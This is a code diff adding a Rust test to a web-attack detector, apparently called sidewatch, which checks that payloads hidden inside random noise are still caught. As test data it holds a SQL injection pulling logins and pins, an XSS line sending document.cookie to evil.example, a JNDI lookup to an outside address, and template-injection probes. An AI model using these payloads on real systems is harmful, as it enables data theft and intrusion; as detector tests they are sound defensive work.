@@ -275,3 +275,44 @@ fn control_bytes_hide_no_parameter_past_the_limit() {
     let sqli = |f: &sidewatch::Finding| f.class == sidewatch::detect::Class::Sqli && f.offset > 16_000;
     assert!(transaction.findings().iter().any(sqli), "{:#?}", transaction.findings());
 }
+
+#[test]
+fn noise_of_signs_hides_no_words() {
+    let noise = |size: usize, signs: &[u8]| -> String {
+        let mut seed = 1u64;
+        let next = |_| {
+            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+            char::from(signs[(seed >> 33) as usize % signs.len()])
+        };
+        (0..size).map(next).collect()
+    };
+    let all = b"'\"`()[]{}<>=;:|&$%#@!*+-/\\,.~^? \n\taA1";
+    let mut transaction = Engine::default().transaction();
+    let mut wrong = Vec::new();
+    for size in [1_500, 3_500, 12_345, 40_000] {
+        let (before, behind) = (noise(size, all), noise(size.min(9_000), all));
+        for (class, payload) in [
+            ("sqli", "7' UNION SELECT login, pin FROM staff -- "),
+            ("xss", "<svg onload=fetch('//evil.example/'+document.cookie)>"),
+            ("rce", "${jndi:ldap://198.51.100.7:1389/o}"),
+            ("ssti", "{{config.__class__.__init__.__globals__}}"),
+        ] {
+            let value = format!("{before} {payload}{behind}");
+            check(&mut transaction, "noise around", &value, class, &mut wrong);
+            assert!(transaction.anomalies().contains(sidewatch::Anomaly::Noise));
+        }
+        // What stands at the end is judged without a word, too.
+        let value = format!("{before}<%=7*7%>");
+        check(&mut transaction, "noise before", &value, "ssti", &mut wrong);
+        // A comment and a string have what they like in them.
+        let comment = noise(size, b"'\"`()[]{}<>=;:|&$%#@!+-\\,.~^? \n\taA1");
+        let string = noise(size, b"\"`()[]{}<>=;:|&$%#@!+-,.~^? \n\taA1");
+        for payload in [
+            format!("7' /*{comment}*/ UNION SELECT login, pin FROM staff -- "),
+            format!("7' AND '{string}'<>'a' UNION SELECT login, pin FROM staff -- "),
+        ] {
+            check(&mut transaction, "noise inside", &payload, "sqli", &mut wrong);
+        }
+    }
+    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
+}
